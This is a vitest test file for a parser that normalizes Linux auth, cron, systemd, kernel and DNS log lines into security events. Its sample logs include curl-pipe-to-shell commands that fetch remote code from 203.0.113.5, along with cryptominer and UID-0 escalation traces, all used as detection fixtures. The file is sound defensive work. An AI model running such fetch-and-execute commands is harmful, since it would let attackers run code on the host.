import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { brief, lineOf, readLines } from './samples/program-lines.ts'
import { parseSudoMessage } from './sudo.ts'

const PAM = 'logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost='
const SUDO = 'TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND='

const cases: readonly { title: string; lines: string[]; expected: string[] }[] = [
  {
    title: 'sudo: what ran, and the session around it',
    lines: [
      `1 sudo:    alice : ${SUDO}/usr/bin/apt update`,
      '1 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)',
      '9 sudo: pam_unix(sudo:session): session closed for user root',
    ],
    expected: ['exec [/usr/bin/apt|update]', 'session sudo open root', 'session sudo close root'],
  },
  {
    title: 'sudo: three wrong passwords are three, although three kinds of lines tell of them',
    lines: [
      `1 sudo: pam_unix(sudo:auth): authentication failure; ${PAM}  user=alice`,
      `8 sudo: pam_unix(sudo:auth): 2 more authentication failures; ${PAM}  user=alice`,
      `8 sudo:    alice : 3 incorrect password attempts ; ${SUDO}/usr/bin/id`,
    ],
    expected: ['auth sudo failure alice x1', 'auth sudo failure alice x2', 'exec refused [/usr/bin/id]'],
  },
  {
    title: 'sudo: the same with its own line before the sum',
    lines: [
      `1 sudo[7]: pam_unix(sudo:auth): authentication failure; ${PAM}  user=alice`,
      `8 sudo[7]:    alice : 3 incorrect password attempts ; ${SUDO}/usr/bin/id`,
      `8 sudo[7]: pam_unix(sudo:auth): 2 more authentication failures; ${PAM}  user=alice`,
    ],
    expected: ['auth sudo failure alice x1', 'auth sudo failure alice x2', 'exec refused [/usr/bin/id]'],
  },
  {
    title: 'sudo: without PAM its own line is all there is',
    lines: [`1 sudo:    alice : 1 incorrect password attempt ; ${SUDO}/usr/bin/id`],
    expected: ['auth sudo failure alice x1', 'exec refused [/usr/bin/id]'],
  },
  {
    title: 'sudo: a wrong password, then the right one',
    lines: [
      `1 sudo: pam_unix(sudo:auth): authentication failure; ${PAM}  user=alice`,
      `5 sudo:    alice : ${SUDO}/usr/bin/id`,
      `60 sudo: pam_unix(sudo:auth): authentication failure; ${PAM}  user=alice`,
    ],
    expected: ['auth sudo failure alice x1', 'exec [/usr/bin/id]', 'auth sudo failure alice x1'],
  },
  {
    title: 'sudo: who may not, may not',
    lines: [
      `1 sudo:      bob : user NOT in sudoers ; ${SUDO}/bin/bash -c curl -s http://203.0.113.5/x | sh`,
      `2 sudo:      bob : command not allowed ; ${SUDO}/usr/bin/passwd`,
      `3 sudo:      bob : a password is required ; ${SUDO}list`,
      '4 sudo:      bob : (command continued) more of it',
      '5 sudo: unable to resolve host web-1',
    ],
    expected: [
      'auth sudo failure bob x1',
      'exec refused [/bin/bash|-c|curl -s http://203.0.113.5/x | sh]',
      'auth sudo failure bob x1',
      'exec refused [/usr/bin/passwd]',
      'exec refused [list]',
    ],
  },
  {
    title: 'PAM: the next module lets pass what the first one did not',
    lines: [
      `1 sudo[7]: pam_unix(sudo:auth): authentication failure; ${PAM}  user=alice`,
      `1 sudo[7]: pam_sss(sudo:auth): authentication success; ${PAM} user=alice`,
      `1 sudo[7]:    alice : ${SUDO}/usr/bin/id`,
    ],
    expected: ['exec [/usr/bin/id]'],
  },
  {
    title: 'PAM: two modules refuse one try',
    lines: [
      `1 login[7]: pam_unix(login:auth): check pass; user unknown`,
      `1 login[7]: pam_unix(login:auth): authentication failure; logname=LOGIN uid=0 euid=0 tty=/dev/tty1 ruser= rhost=`,
      `1 login[7]: pam_sss(login:auth): authentication failure; logname=LOGIN uid=0 euid=0 tty=/dev/tty1 ruser= rhost= user=ghost`,
      `3 login[7]: FAILED LOGIN (1) on '/dev/tty1' FOR 'UNKNOWN', Authentication failure`,
    ],
    expected: ['auth login failure -? x1'],
  },
  {
    title: 'PAM: a module that complains seconds later complains of another try',
    lines: [
      `1 sudo: pam_unix(sudo:auth): authentication failure; ${PAM}  user=alice`,
      '6 sudo: pam_tally2(sudo:auth): user alice (1000) tally 6, deny 5',
    ],
    expected: ['auth sudo failure alice x1', 'auth sudo failure alice x1'],
  },
  {
    title: 'PAM: any service, with its peer',
    lines: [
      '1 vsftpd[9]: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=web rhost=198.51.100.7  user=web',
      '2 dovecot[8]: pam_unix(dovecot:auth): authentication failure; logname= uid=0 euid=0 tty=dovecot ruser=bob rhost=host.example.net  user=bob',
      '3 su(pam_unix)[5]: session opened for user root by alice(uid=500)',
      '4 sudo: pam_faillock(sudo:auth): Consecutive login failures for user alice account temporarily locked',
      '5 gdm-password][3]: pam_unix(gdm-password:session): session opened for user alice by (uid=0)',
      '6 x[3]: pam_systemd(x:session): Failed to create session',
    ],
    expected: [
      'session su open root',
      'account lock alice',
      'session gdm-password open alice',
      'auth vsftpd failure web x1 from 198.51.100.7',
      'auth dovecot failure bob x1 from host.example.net',
    ],
  },
  {
    title: 'su: each verdict once, in the words of shadow',
    lines: [
      `1 su[7]: pam_unix(su:auth): authentication failure; ${PAM}  user=root`,
      '3 su[7]: FAILED su for root by alice',
      '3 su[7]: - /dev/pts/0 alice:root',
      '9 su[8]: Successful su for root by alice',
      '9 su[8]: + /dev/pts/0 alice:root',
      '9 su[8]: pam_unix(su:session): session opened for user root by alice(uid=1000)',
    ],
    expected: ['auth su failure root x1', 'auth su success root x1', 'session su open root'],
  },
  {
    title: 'su: in the words of util-linux and BSD',
    lines: [
      '1 su: (to root) alice on pts/0',
      '2 su: FAILED SU (to root) alice on pts/0',
      '3 su: BAD SU alice to root on /dev/ttyp0',
      '9 su: - pts/3 bob:root',
    ],
    expected: [
      'auth su success root x1',
      'auth su failure root x1',
      'auth su failure root x1',
      'auth su failure root x1',
    ],
  },
  {
    title: 'login',
    lines: [
      '1 login[7]: ROOT LOGIN ON tty1',
      '2 login[8]: LOGIN ON tty1 BY alice FROM host.example.net',
      '3 login[9]: FAILED LOGIN 2 FROM tty1 FOR alice, Authentication failure',
      "4 login[6]: FAILED LOGIN (1) on '/dev/pts/1' from '198.51.100.7' FOR 'root', Authentication failure",
    ],
    expected: [
      'auth login success root x1',
      'auth login success alice x1 from host.example.net',
      'auth login failure alice x2',
      'auth login failure root x1 from 198.51.100.7',
    ],
  },
  {
    title: 'cron',
    lines: [
      '1 CRON[7]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)',
      '1 CROND[8]: (alice) CMD (curl -fsS http://203.0.113.5/x.sh|sh)',
      '1 CRON[8]: (alice) CMDEND (x)',
      '2 crontab[9]: (alice) LIST (alice)',
      '2 crontab[9]: (alice) REPLACE (alice)',
      '2 cron[1]: (alice) RELOAD (crontabs/alice)',
      '3 crontab[9]: (alice) DELETE (alice)',
      '4 cron[1]: (*system*) RELOAD (/etc/crontab)',
      '4 cron[1]: (CRON) INFO (Running @reboot jobs)',
      '5 CRON[7]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)',
    ],
    expected: [
      'exec [/bin/sh|-c|cd / && run-parts --report /etc/cron.hourly]',
      'exec [/bin/sh|-c|curl -fsS http://203.0.113.5/x.sh|sh]',
      'write /var/spool/cron/crontabs/alice',
      'delete /var/spool/cron/crontabs/alice',
      'write /etc/crontab',
      'session cron open root',
    ],
  },
  {
    title: 'accounts: each change once',
    lines: [
      '1 groupadd[7]: group added to /etc/group: name=deploy, GID=1001',
      '1 groupadd[7]: group added to /etc/gshadow: name=deploy',
      '1 groupadd[7]: new group: name=deploy, GID=1001',
      '2 useradd[8]: new group: name=bob, GID=1002',
      '2 useradd[8]: new user: name=bob, UID=1002, GID=1002, home=/home/bob, shell=/bin/bash, from=/dev/pts/1',
      "2 useradd[8]: add 'bob' to group 'sudo'",
      "2 useradd[8]: add 'bob' to shadow group 'sudo'",
      "3 useradd[9]: failed adding user 'bob', exit code: 9",
      '4 passwd[4]: pam_unix(passwd:chauthtok): password changed for bob',
      '4 chpasswd[4]: pam_unix(chpasswd:chauthtok): password changed for root',
      "5 usermod[3]: change user 'bob' shell from '/bin/bash' to '/bin/zsh'",
      "5 usermod[3]: change user 'bob' password",
      "5 usermod[3]: lock user 'bob' password",
      "5 usermod[3]: unlock user 'bob' password",
      "5 usermod[3]: change user 'bob' UID from '1002' to '0'",
      '6 chage[2]: changed password expiry for bob',
      '6 gpasswd[2]: user bob added by root to group docker',
      "6 chsh[2]: changed user 'bob' shell to '/bin/sh'",
      "7 userdel[1]: delete user 'bob'",
      "7 userdel[1]: removed group 'bob' owned by 'bob'",
      "7 userdel[1]: removed shadow group 'bob' owned by 'bob'",
      "8 groupdel[1]: group 'deploy' removed from /etc/group",
      "8 groupdel[1]: group 'deploy' removed",
      "9 passwd[1]: password for 'bob' changed by 'root'",
    ],
    expected: [
      'account add-group deploy',
      'account add-group bob',
      'account add-user bob',
      'account modify-user bob',
      'account add-user bob failed',
      'account change-password bob',
      'account change-password root',
      'account modify-user bob',
      'account change-password bob',
      'account lock bob',
      'account unlock bob',
      'account modify-user bob',
      'account modify-user bob',
      'account modify-user bob',
      'account modify-user bob',
      'account delete-user bob',
      'account delete-group bob',
      'account delete-group deploy',
      'account change-password bob',
    ],
  },
  {
    title: 'systemd: units, not targets, sessions and slices',
    lines: [
      '1 systemd[1]: Starting nginx.service - A high performance web server...',
      '1 systemd[1]: Started nginx.service - A high performance web server.',
      '2 systemd[1]: Started Regular background program processing daemon.',
      '3 systemd[1]: Finished logrotate.service - Rotate log files.',
      '4 systemd[1]: Stopped nginx.service - A high performance web server.',
      "5 systemd[1]: nginx.service: Failed with result 'exit-code'.",
      '5 systemd[1]: Failed to start nginx.service - A high performance web server.',
      '6 systemd[1]: Reloading.',
      "6 systemd[1]: Reloading requested from client PID 812 ('systemctl') (unit session-3.scope)...",
      '6 systemd[1]: Reloading nginx.service - A high performance web server...',
      '7 systemd[1]: Started session-3.scope - Session 3 of User root.',
      '7 systemd[1]: Started Session 3 of user root.',
      '7 systemd[1]: Reached target multi-user.target - Multi-User System.',
      '7 systemd[1]: Created slice user-0.slice - User Slice of UID 0.',
      '8 systemd[900]: pam_unix(systemd-user:session): session opened for user alice(uid=1000) by (uid=0)',
    ],
    expected: [
      'start nginx.service',
      'start Regular background program processing daemon',
      'start logrotate.service',
      'stop nginx.service',
      'stop nginx.service failed',
      'start nginx.service failed',
      'configure systemd',
      'configure systemd',
      'session systemd-user open alice',
    ],
  },
  {
    title: 'kernel: registers that miners tune, foreign modules, processes killed for memory',
    lines: [
      '1 kernel: [ 1234.567890] msr: Write to unrecognized MSR 0x1a4 by xmrig (pid: 4711).',
      '1 kernel: msr: Write to unrecognized MSR 0x1a4 by kworkerds',
      '2 kernel: [ 1234.6] diamond: loading out-of-tree module taints kernel.',
      '3 kernel: [ 1240.1] Out of memory: Killed process 4712 (kdevtmpfsi) total-vm:2440320kB, anon-rss:1',
      '3 kernel: Memory cgroup out of memory: Killed process 4713 (java) total-vm:2440320kB',
      '4 kernel: [ 1241.0] device eth0 entered promiscuous mode',
      '4 kernel: somebody wrote: Killed process 1 (init)',
    ],
    expected: [
      'write /dev/cpu/*/msr',
      'write /dev/cpu/*/msr',
      'start diamond',
      'signal [oom-kill|-9|4712|kdevtmpfsi]',
      'signal [oom-kill|-9|4713|java]',
    ],
  },
  {
    title: 'dropbear',
    lines: [
      "1 dropbear[7]: Bad password attempt for 'root' from 198.51.100.7:40022",
      "2 dropbear[7]: Password auth succeeded for 'root' from 198.51.100.7:40022",
      '3 dropbear[7]: Login attempt for nonexistent user from 2001:db8::1:40022',
      "4 dropbear[7]: Pubkey auth succeeded for 'alice' with key sha1!! 0a:1b from 198.51.100.7:40022",
      '5 dropbear[7]: Child connection from 198.51.100.7:40022',
    ],
    expected: [
      'auth dropbear failure root x1 from 198.51.100.7',
      'auth dropbear success root x1 from 198.51.100.7',
      'auth dropbear failure -? x1 from 2001:db8::1',
      'auth dropbear success alice x1 from 198.51.100.7',
    ],
  },
  {
    title: 'dnsmasq: answers go to who asked, through aliases too',
    lines: [
      '1 dnsmasq[5]: query[A] WWW.Example.com from 192.0.2.5',
      '1 dnsmasq[5]: forwarded WWW.Example.com to 198.51.100.53',
      '1 dnsmasq[5]: reply www.example.com is <CNAME>',
      '1 dnsmasq[5]: reply edge.example.net is 203.0.113.9',
      '2 dnsmasq[5]: query[AAAA] ad.example.org from 192.0.2.6',
      '2 dnsmasq[5]: gravity blocked ad.example.org is 0.0.0.0',
      '3 dnsmasq[5]: query[TXT] gone.example.org from 127.0.0.1',
      '3 dnsmasq[5]: cached gone.example.org is NXDOMAIN',
      '4 dnsmasq[5]: reply nobody-asked.example is 192.0.2.77',
      '5 dnsmasq[5]: started, version 2.89 cachesize 1000',
    ],
    expected: [
      'dns 192.0.2.5 www.example.com ? A',
      'dns 192.0.2.5 www.example.com = NOERROR',
      'dns 192.0.2.5 www.example.com = NOERROR 203.0.113.9',
      'dns 192.0.2.6 ad.example.org ? AAAA',
      'dns 192.0.2.6 ad.example.org = NOERROR 0.0.0.0',
      'dns 127.0.0.1 gone.example.org ? TXT',
      'dns 127.0.0.1 gone.example.org = NXDOMAIN',
    ],
  },
  {
    title: 'dnsmasq with log-queries=extra: by number',
    lines: [
      '1 dnsmasq[5]: 42 192.0.2.5/40123 query[A] a.example.com from 192.0.2.5',
      '1 dnsmasq[5]: 43 2001:db8::5/40123 query[HTTPS] a.example.com from 2001:db8::5',
      '1 dnsmasq[5]: 42 192.0.2.5/40123 reply a.example.com is 203.0.113.9',
      '1 dnsmasq[5]: 43 2001:db8::5/40123 reply a.example.com is NODATA',
    ],
    expected: [
      'dns 192.0.2.5 a.example.com ? A',
      'dns 2001:db8::5 a.example.com ? HTTPS',
      'dns 192.0.2.5 a.example.com = NOERROR 203.0.113.9',
      'dns 2001:db8::5 a.example.com = NOERROR',
    ],
  },
  {
    title: 'dnsmasq: an alias that nobody asked for here is nobody elses answer',
    lines: [
      '1 dnsmasq[5]: query[A] a.example.com from 192.0.2.5',
      '1 dnsmasq[5]: reply a.example.com is <CNAME>',
      '1 dnsmasq[5]: reply b.example.com is 203.0.113.9',
      '2 dnsmasq[5]: query[A] c.example.com from 192.0.2.6',
      '2 dnsmasq[5]: reply d.example.com is 203.0.113.10',
    ],
    expected: [
      'dns 192.0.2.5 a.example.com ? A',
      'dns 192.0.2.5 a.example.com = NOERROR',
      'dns 192.0.2.5 a.example.com = NOERROR 203.0.113.9',
      'dns 192.0.2.6 c.example.com ? A',
    ],
  },
  {
    title: 'unbound',
    lines: [
      '1 unbound[7]: [7:0] info: 192.0.2.5 example.com. A IN',
      '1 unbound[7]: [7:1] info: 192.0.2.5 example.com. A IN NOERROR 0.012345 0 56',
      '2 unbound[7]: [7:0] query: 2001:db8::5 pool.example.net. HTTPS IN',
      '2 unbound[7]: [7:0] reply: 2001:db8::5 pool.example.net. HTTPS IN NXDOMAIN 0.000000 1 40',
      '3 unbound[7]: [7:0] info: start of service (unbound 1.17.1).',
    ],
    expected: [
      'dns 192.0.2.5 example.com ? A',
      'dns 192.0.2.5 example.com = NOERROR',
      'dns 2001:db8::5 pool.example.net ? HTTPS',
      'dns 2001:db8::5 pool.example.net = NXDOMAIN',
    ],
  },
  {
    title: 'named, of all ages',
    lines: [
      '1 named[7]: client @0x7f2c08 192.0.2.5#53211 (example.com): query: example.com IN A +E(0)K (192.0.2.53)',
      '2 named[7]: client 192.0.2.5#53211: query: a.example.com IN AAAA +',
      '3 named[7]: queries: info: client @0x7f 2001:db8::5#1 (b.example): view internal: query: b.example IN TYPE65 -E (2001:db8::53)',
      '4 named[7]: client @0x7f 192.0.2.5#2/key mykey (c.example): query: c.example IN SOA -ST (192.0.2.53)',
      '5 named[7]: client @0x7f 192.0.2.5#2 (d.example): query (cache) d.example/A/IN denied',
      '6 named[7]: zone example/IN: loaded serial 1',
    ],
    expected: [
      'dns 192.0.2.5 example.com ? A',
      'dns 192.0.2.5 a.example.com ? AAAA',
      'dns 2001:db8::5 b.example ? TYPE65',
      'dns 192.0.2.5 c.example ? SOA',
    ],
  },
  {
    title: 'falco',
    lines: [
      '1 falco[7]: 03:14:05.123456789: Warning Shell in a container (user=root command=bash -c id container_id=0a1b2c3d4e5f)',
      '2 falco: Critical Something with no fields',
      '3 falco: Falco version: 0.38.0',
    ],
    expected: ['alert medium Shell in a container', 'alert high Something with no fields'],
  },
]

/** What the dialects look for, to be put together at random. */
const PIECES = [
  ' : | ; |COMMAND=|TTY=|USER=|pam_unix(sudo:auth): |authentication failure; | rhost=| user=|(root) |CMD |(x)',
  "|new user: name='|change user '|Started | - |.service|msr: Write to unrecognized MSR | by |Killed process |12| (|)",
  '|query[A]| from | is |<CNAME>|192.0.2.5|#53|client |: query: | IN A |info: |Warning |FAILED LOGIN | FOR ',
  "|3 incorrect password attempts|session opened for user |\u0000|\uFFFD|\u202E|[1:0] |a| |=|'",
]
  .join('')
  .split('|')

describe('programs', () => {
  it.each(cases)('$title', ({ lines, expected }) => {
    expect(readLines(lines).events.map(brief)).toEqual(expected)
  })

  it('says who asked for what, where and from which terminal', () => {
    const { events } = readLines([
      '1 sudo[7]:    alice : HOST=web-1 ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; GROUP=adm ; ENV=A=1 ; COMMAND=/usr/bin/id -u',
    ])
    expect(events[0]).toMatchObject({
      actor: { pid: 7, uid: 0, exe: '/usr/bin/id', tty: 'pts/0' },
      cwd: '/home/alice',
      commandLine: '/usr/bin/id -u',
      paths: ['/usr/bin/id'],
    })
  })

  it('is not led astray by folders and arguments that look like fields', () => {
    const text =
      'alice : TTY=pts/0 ; PWD=/tmp/x ; USER=bob ; USER=root ; COMMAND=/bin/echo ; COMMAND=/bin/true'
    expect(parseSudoMessage(text)).toMatchObject({
      by: 'alice',
      user: 'root',
      command: '/bin/echo ; COMMAND=/bin/true',
    })
  })

  it('names the container and the command of an alert', () => {
    const { events } = readLines([
      '1 falco[7]: Notice Odd (user=root connection=10.0.0.7:40022->203.0.113.9:3333 command=sh -c a=b c container_id=0a1b image=<NA>)',
    ])
    expect(events[0]).toMatchObject({
      subjects: ['host:web-1', 'container:0a1b'],
      user: 'root',
      commandLine: 'sh -c a=b c',
      dstIp: '203.0.113.9',
      dstPort: 3333,
    })
  })

  it('holds a complaint until the next module could have spoken', () => {
    const line = lineOf(`1 sudo: pam_unix(sudo:auth): authentication failure; ${PAM}  user=alice`)
    expect(line.pid).toBeNull()
    const { events } = readLines([line.raw])
    expect(events).toHaveLength(1)
  })

  it('takes any text of any program', () => {
    const program = fc.constantFrom(
      'sudo',
      'su',
      'login',
      'CRON',
      'useradd',
      'systemd',
      'kernel',
      'dnsmasq',
      'unbound',
      'named',
      'falco',
      'dropbear',
      'x',
      'su(pam_unix)',
    )
    const piece = fc.constantFrom(...PIECES)
    const lines = fc.array(fc.tuple(program, fc.array(piece, { maxLength: 8 })), { maxLength: 12 })
    fc.assert(
      fc.property(lines, (drawn) => {
        const texts = drawn.map(([name, pieces], index) => `${index} ${name}[7]: ${pieces.join('')}`)
        const { events } = readLines(texts)
        for (const event of events) if (event.kind === 'auth') expect(event.count).toBeGreaterThan(0)
      }),
      { seed: 17, numRuns: 1500 },
    )
  })
})
